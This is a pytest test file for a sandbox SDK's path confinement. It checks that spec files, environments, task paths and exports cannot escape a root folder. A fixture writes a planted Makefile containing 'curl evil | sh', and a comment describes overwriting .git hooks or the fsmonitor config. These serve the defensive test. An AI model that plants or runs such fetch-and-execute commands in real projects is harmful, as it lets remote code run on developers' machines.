"""``Pyro(confine_to=...)``: the MCP server's confinement, offered to SDK callers (off by default).

Every refusal comes before a guest boots or a task is looked up, so no guest is needed.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from pyro.errors import NotFoundError, OutsideRootError, UsageError
from pyro.host.confine import ARTIFACTS_FOLDER
from pyro.sdk import Pyro

pytestmark = pytest.mark.hostile

ENVIRONMENT_DOC = """\
apiVersion: pyro/v1
kind: Environment
metadata: {name: "mine:1"}
spec:
  version: 1.0.0
  kernel: {package: linux-source-6.1, fragment: FRAGMENT}
  rootfs: {distribution: debian, suite: bookworm, variant: minbase, packages: [], sizeMiB: 512}
"""
RUN_DOC = """\
apiVersion: pyro/v1
kind: Run
metadata: {name: "run"}
spec:
  environment: ENVIRONMENT
  files: FILES
  steps: [{name: s, run: "true"}]
"""


def run_doc(environment: str = "nosuch:1", files: str = "[]") -> str:
    return RUN_DOC.replace("ENVIRONMENT", environment).replace("FILES", files)


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PYRO_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("PYRO_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.delenv("PYRO_ENV_REGISTRY", raising=False)
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "key").write_text("top secret\n")
    (tmp_path / "outside" / "run.yaml").write_text(run_doc())
    (tmp_path / "outside" / "env.yaml").write_text(ENVIRONMENT_DOC.replace("FRAGMENT", "key"))
    (root / "away").symlink_to(tmp_path / "outside")
    (root / "ok.txt").write_text("fine\n")
    (root / "frag.config").write_text("CONFIG_X=y\n")
    return root


def test_it_is_off_by_default(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(root.parent)
    sdk = Pyro()
    assert sdk.root is None
    sdk.load_spec(root.parent / "outside" / "run.yaml")  # the SDK's caller is trusted
    plan = sdk.plan({**_data(run_doc(files="[{source: outside/key, target: /k}]"))})
    assert any(step.action == "copy-in" for step in plan.steps)


def test_spec_files_and_their_paths(root: Path) -> None:
    sdk = Pyro(confine_to=root)
    assert sdk.root is not None and sdk.root.folders == (root,)
    outside = root.parent / "outside" / "run.yaml"
    for call in (sdk.load_spec, sdk.plan, sdk.apply):
        with pytest.raises(OutsideRootError, match=r"spec file .* is outside"):
            call(outside)  # type: ignore[operator]
        with pytest.raises(OutsideRootError, match="through a symbolic link"):
            call("away/run.yaml")  # type: ignore[operator]
    (root / "leak.yaml").write_text(run_doc(files="[{source: away/key, target: /k}]"))
    with pytest.raises(OutsideRootError, match=r"files\[0\]\.source 'away/key'"):
        sdk.plan("leak.yaml")
    (root / "fine.yaml").write_text(run_doc(files="[{source: ok.txt, target: /k}]"))
    assert sdk.plan("fine.yaml").metadata.name == "run"


def test_local_and_referenced_environment_documents(root: Path) -> None:
    sdk = Pyro(confine_to=root)
    leaky = ENVIRONMENT_DOC.replace("FRAGMENT", "away/key")
    (root / "two.yaml").write_text(leaky + "---\n" + run_doc("mine:1"))
    with pytest.raises(OutsideRootError, match=r"kernel\.fragment of mine:1"):
        sdk.plan("two.yaml")
    (root / "env.yaml").write_text(leaky)
    with pytest.raises(OutsideRootError, match=r"kernel\.fragment of env\.yaml"):
        sdk.plan(_data(run_doc("env.yaml")))
    with pytest.raises(OutsideRootError, match=r"environment 'away/env\.yaml'"):
        sdk.plan(_data(run_doc("away/env.yaml")))
    (root / "env.yaml").write_text(ENVIRONMENT_DOC.replace("FRAGMENT", "frag.config"))
    assert sdk.plan(_data(run_doc("env.yaml"))).environment.name == "mine:1"  # type: ignore[union-attr]


def test_a_plan_made_elsewhere_is_checked_before_it_is_applied(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(root)
    plan = Pyro().plan(_data(run_doc(files="[{source: away/key, target: /k}]")))
    with pytest.raises(OutsideRootError, match=r"files\[0\]\.source"):
        Pyro(confine_to=root).apply(plan)


@pytest.mark.parametrize(
    "environment", ["{outside}/env.yaml", "away/env.yaml", "../outside/x.yaml"]
)
def test_environment_arguments(root: Path, environment: str) -> None:
    sdk = Pyro(confine_to=root)
    env = environment.format(outside=root.parent / "outside")
    for call in (
        sdk.create_vm,
        sdk.create_task,
        sdk.pull_environment,
        sdk.inspect_environment,
        sdk.build_environment,
        lambda e: sdk.push_environment(e, "oci://127.0.0.1:9/x:1"),
        lambda e: sdk.run_in_vm(e, "true"),
    ):
        with pytest.raises(OutsideRootError, match="environment"):
            call(env)  # type: ignore[operator]


def test_task_host_paths(root: Path) -> None:
    sdk = Pyro(confine_to=root)
    outside = root.parent / "outside"
    with pytest.raises(OutsideRootError, match="seed_path"):
        sdk.create_task("nosuch:1", seed_path=outside)
    with pytest.raises(OutsideRootError, match="seed_path 'away'"):
        sdk.create_task("nosuch:1", seed_path="away")
    with pytest.raises(OutsideRootError, match="source folder"):
        sdk.push_task_dir("task-none", "away")
    with pytest.raises(OutsideRootError, match="host file"):
        sdk.write_task_file("task-none", "/workspace/k", outside / "key")
    with pytest.raises(OutsideRootError, match="export output"):
        sdk.export_task_path("task-none", "/workspace", outside / "copy")
    with pytest.raises(OutsideRootError, match="export output"):
        sdk.export_task_path("task-none", "/workspace", "away/copy")
    with pytest.raises(NotFoundError):  # inside the root: on to the (missing) task
        sdk.export_task_path("task-none", "/workspace", "copy")
    assert not (root / ARTIFACTS_FOLDER).exists()  # no task: no export folder either


def test_a_confined_view_shares_the_warm_pool(root: Path) -> None:
    owner = Pyro(warm_pool=1)
    view = owner.confined(root)
    assert owner.root is None and view.root is not None and view.root.folders == (root,)
    assert view._pool() is owner._pool() is not None
    view.close()  # a view does not close its owner's pool
    assert not owner._pool()._closed  # type: ignore[union-attr]
    owner.close()
    assert owner.confined(None).root is None


def _data(text: str) -> dict[str, object]:
    from pyro.spec.load import load_spec_text

    return load_spec_text(text)[0].spec.model_dump(mode="json", by_alias=True, exclude_unset=True)


class _OneTask:
    """Task sessions that hand out one (lying) agent: only the VM is faked."""

    def __init__(self, agent: object) -> None:
        self.agent = agent

    @contextlib.contextmanager
    def session(self, task_id: str) -> Iterator[object]:
        yield self.agent

    def get(self, task_id: str) -> tuple[object, object]:
        """A running task (so its files are read through the agent, not from its disk)."""
        from types import SimpleNamespace

        from pyro.machines.registry import VMState

        return SimpleNamespace(state=VMState.RUNNING), SimpleNamespace(seed_disk=False)


def test_a_confined_export_lands_in_a_fresh_folder_never_over_the_roots_files(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The old code wrote anywhere inside the root: over .git (an executable hook and a
    # config with core.fsmonitor), or an Environment spec + kernel fragment that the root
    # then accepted for a host build.
    from helpers.lying_agent import LyingAgent, raw_entry

    from pyro.sdk.task import TaskMethods

    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    (root / "Makefile").write_text("mine\n")
    agent = LyingAgent()
    agent.folder("/workspace/git", raw_entry(b"config"), raw_entry(b"hooks", "d"))
    agent.folder("/workspace/git/hooks", raw_entry(b"pre-commit", mode=0o755))
    agent.folder("/workspace/env", raw_entry(b"env.yaml"), raw_entry(b"frag.config"))
    agent.contents["/workspace/env/env.yaml"] = ENVIRONMENT_DOC.replace(
        "FRAGMENT", "frag.config"
    ).encode()
    agent.contents["/workspace/Makefile"] = b"all:\n\tcurl evil | sh\n"
    monkeypatch.setattr(TaskMethods, "tasks", property(lambda self: _OneTask(agent)))
    sdk = Pyro(confine_to=root)

    with pytest.raises(UsageError, match=r"in a \.git folder"):
        sdk.export_task_path("t1", "/workspace/git", ".git")
    with pytest.raises(UsageError, match="include_git is refused for a confined Pyro"):
        sdk.export_task_path("t1", "/workspace/git", "copy", include_git=True)
    envs = sdk.export_task_path("t1", "/workspace/env", "envs")
    makefile = sdk.export_task_path("t1", "/workspace/Makefile", "Makefile")

    assert (root / ".git" / "config").read_text() == "[core]\n"
    assert sorted(p.name for p in (root / ".git").iterdir()) == ["config"]
    assert (root / "Makefile").read_text() == "mine\n" and not (root / "envs").exists()
    exported = Path(envs.dest)
    assert exported.parent.parent == root / ARTIFACTS_FOLDER
    assert exported.name == "envs" and exported.parent.name.startswith("export-t1-")
    assert (exported / "env.yaml").is_file()
    assert Path(makefile.dest).read_bytes() == b"all:\n\tcurl evil | sh\n"
    assert Path(makefile.dest).parent.parent == root / ARTIFACTS_FOLDER
    with pytest.raises(OutsideRootError, match=ARTIFACTS_FOLDER):
        sdk.root.environment(str(exported / "env.yaml"))  # type: ignore[union-attr]
    # The refused exports left no folder behind.
    assert len(list((root / ARTIFACTS_FOLDER).glob("export-*"))) == 2
